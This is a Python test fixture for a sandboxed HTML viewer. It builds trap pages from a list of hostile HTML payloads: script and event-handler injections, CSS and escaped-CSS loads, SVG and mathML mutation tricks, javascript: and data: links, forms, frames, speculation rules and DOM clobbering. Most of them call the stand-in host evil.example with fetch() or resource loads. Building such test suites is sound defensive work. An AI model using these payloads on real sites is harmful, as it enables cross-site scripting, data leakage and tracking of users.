"""Pages that try to run scripts, to send requests, or to leave the frame."""

from __future__ import annotations

# A request to this host, or a change of the title of the desk, means that a page got through. The host answers nothing.
HOST = "evil.example"
SCRIPT = "parent.document.title='hacked'; document.title='hacked'; fetch('https://evil.example/fetch')"

# Each row: what it tries, HTML of the head, HTML of the body.
HOSTILE = [
    ("script", f"<script>{SCRIPT}</script>", f"<script>{SCRIPT}</script>"),
    ("script file", "<script src=https://evil.example/a.js></script>", "<script type=module src=//evil.example/b.js></script>"),
    ("event handlers", "", f'<img src=x onerror="{SCRIPT}"><p onclick="{SCRIPT}" onmouseover="{SCRIPT}">text</p><details open ontoggle="{SCRIPT}"><summary>s</summary></details>'),
    ("body handlers", "", f'</body><body onload="{SCRIPT}" onfocus="{SCRIPT}" background=https://evil.example/bg.png>'),
    ("meta refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/refresh">', ""),
    ("meta policy", '<meta http-equiv=Content-Security-Policy content="script-src *">', f"<script>{SCRIPT}</script>"),
    ("base", "<base href=https://evil.example/>", "<img src=relative.png><a href=relative>text of a link</a>"),
    ("links", '<link rel=stylesheet href=https://evil.example/a.css><link rel=preload as=image href=https://evil.example/p.png><link rel=dns-prefetch href=//evil.example><link rel=icon href=https://evil.example/i.ico>', ""),
    ("style sheet", "<style>@import 'https://evil.example/a.css'; @import url(//evil.example/b.css); body { background: url(https://evil.example/c.png) } @font-face { font-family: f; src: url(https://evil.example/f.woff) } p { font-family: f; cursor: url(https://evil.example/cur), auto }</style>", "<p>text</p>"),
    ("escaped style", "<style>p { background: \\75rl(https://evil.example/d.png) } @\\69mport 'https://evil.example/e.css';</style>", '<p style="background:u\\72l(https://evil.example/f.png)">text</p>'),
    ("style attribute", "", '<p style="background-image:url(https://evil.example/g.png);background:image-set(\'https://evil.example/h.png\' 1x)">text</p>'),
    ("end of style", "<style>p::after { content: '</style><script>" + SCRIPT + "</script>'; }</style>", "<p>text</p>"),
    ("images", "", '<img src=https://evil.example/1.png srcset="https://evil.example/2.png 2x"><picture><source srcset=https://evil.example/3.png><img></picture><input type=image src=https://evil.example/4.png><video poster=https://evil.example/5.png src=https://evil.example/6.mp4 autoplay></video><audio src=https://evil.example/7.mp3 autoplay></audio>'),
    ("svg", "", f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script><image href=https://evil.example/8.png /><use href="https://evil.example/9.svg#a"/><foreignObject><iframe src="javascript:{SCRIPT}"></iframe></foreignObject><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>'),
    ("data svg", "", '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22https://evil.example/10.png%22/><script>fetch(1)</script></svg>">'),
    ("math", "", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">'),
    ("form", "", '<form action=https://evil.example/form method=post><input name=a value=b autofocus onfocus="' + SCRIPT + '"><button formaction=https://evil.example/form2>Send now</button></form>'),
    ("frames", "", f'<iframe src=https://evil.example/frame></iframe><iframe srcdoc="<script>{SCRIPT}</script>"></iframe><object data=https://evil.example/o></object><embed src=https://evil.example/e><portal src=https://evil.example/p></portal><fencedframe></fencedframe>'),
    ("addresses of scripts", "", f'<a href="javascript:{SCRIPT}">text of a link</a><a href="data:text/html,<script>{SCRIPT}</script>" target=_top>another link</a><a ping=https://evil.example/ping href=https://evil.example/click target=_blank>a third link</a>'),
    ("templates", "", f"<template shadowrootmode=open><p>shadow text</p><script>{SCRIPT}</script><img src=https://evil.example/11.png onerror=alert(1)></template><noscript><img src=https://evil.example/12.png><p>noscript text</p></noscript>"),
    ("broken attributes", "", f'<p title="&quot; onclick=&quot;{SCRIPT}">text</p><p class="a&quot;><img src=x onerror={SCRIPT}>">text</p><bs-text data-block="999999">fake</bs-text>'),
    ("custom elements", "", f'<x-a onclick="{SCRIPT}" style="background:url(https://evil.example/13.png)">text in a custom element</x-a><is-land src=https://evil.example/14></is-land>'),
    ("names of properties", "", '<img name=querySelectorAll id=head src=x><form name=documentElement><input name=head></form><a id=createElement name=addEventListener>text</a>'),
    ("speculation", '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/s"]}]}</script><link rel=manifest href=https://evil.example/m>', '<body manifest=https://evil.example/cache><p>text</p>'),
    ("popover", "", f'<button popovertarget=x>Open it</button><dialog open id=x><p>dialog text</p></dialog><div popover id=y ontoggle="{SCRIPT}">pop</div><marquee onstart="{SCRIPT}">moving text</marquee>'),
]  # fmt: skip


def write_hostile(head: str, body: str) -> str:
    """Return a page with a piece of hostile HTML, and some text."""
    words = "The first paragraph of a page that is long enough to be text, with a comma and a full stop."
    return f"<!DOCTYPE html><html><head><title>Trap</title>{head}</head><body><h1>Trap</h1><p>{words}</p>{body}<p>Last words.</p></body></html>"
